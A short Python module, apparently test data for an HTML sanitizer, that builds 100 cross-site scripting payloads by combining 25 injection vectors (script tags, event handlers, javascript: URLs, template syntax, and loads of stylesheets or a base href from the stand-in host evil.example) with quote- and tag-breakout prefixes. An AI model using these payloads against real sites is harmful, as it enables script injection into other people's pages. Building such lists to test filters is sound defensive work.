"""A hundred ways to have a page run what someone typed; every one calls `alert`, or loads from another host."""

from __future__ import annotations

VECTORS = (
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>parent.alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "<a href=javascript:alert(1)>click</a>",
    "[click](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<object data=javascript:alert(1)></object>",
    "<template><img src=x onerror=alert(1)></template>",
    "<style>@import 'http://evil.example/x.css';</style>",
    "<form action=javascript:alert(1)><button autofocus>x</button></form>",
    "{{constructor.constructor('alert(1)')()}}",
    "${alert(1)}",
    "<marquee onstart=alert(1)>x</marquee>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<a id=form></a><base href=http://evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
)
BREAKOUTS = ("{}", '">{}', "'>{}", "</textarea></title></style></script>{}")
PAYLOADS = tuple(breakout.format(vector) for vector in VECTORS for breakout in BREAKOUTS)
